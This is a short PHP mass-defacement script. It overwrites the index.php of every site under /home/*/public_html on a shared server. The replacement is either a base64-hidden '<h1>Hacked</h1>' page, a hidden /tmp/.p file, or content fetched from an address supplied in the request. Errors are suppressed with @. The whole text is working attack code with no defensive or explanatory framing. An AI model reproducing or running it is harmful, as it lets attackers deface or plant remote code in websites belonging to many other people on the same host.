<?php
// The same job with glob() over the sites' folders and the page fetched from an address posted.
$h = base64_decode('PGgxPkhhY2tlZDwvaDE+');
if (!empty($_REQUEST['u'])) { $h = file_get_contents($_REQUEST['u']); }
foreach (glob('/home/*/public_html', GLOB_ONLYDIR) as $d) {
    @copy('/tmp/.p', $d . '/index.php') || @file_put_contents($d . '/index.php', $h);
}
